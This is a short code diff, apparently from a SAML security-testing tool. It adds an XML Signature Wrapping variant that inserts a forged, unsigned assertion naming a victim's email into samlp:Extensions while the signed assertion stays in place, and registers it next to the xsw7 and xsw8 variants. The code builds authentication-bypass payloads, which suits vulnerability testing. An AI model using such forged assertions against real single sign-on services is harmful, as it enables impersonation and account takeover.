@@ -255,6 +255,12 @@ def xsw7(s: Solicitation) -> bytes:
     return _out(root)
 
 
+def evil_assertion_in_extensions(s: Solicitation) -> bytes:
+    root = _tree(s.valid("assertion"))
+    _extensions(root).append(_evil_assertion(_assertion(root), s.victim_email))
+    return _out(root)
+
+
 def xsw8(s: Solicitation) -> bytes:
     root, signature, original = _evil_keeps_signature(s)
     holder = etree.SubElement(signature, _q(DS, "Object"))
@@ -461,6 +467,12 @@ VARIANTS: tuple[Variant, ...] = (
         "xsw7",
         "signed assertion moved into samlp:Extensions; evil unsigned one in its place",
         xsw7,
+        xsw=True,
+    ),
+    Variant(
+        "evil_assertion_in_extensions",
+        "evil unsigned assertion in samlp:Extensions, the signed one left in place",
+        evil_assertion_in_extensions,
         xsw=True,
     ),
     Variant(
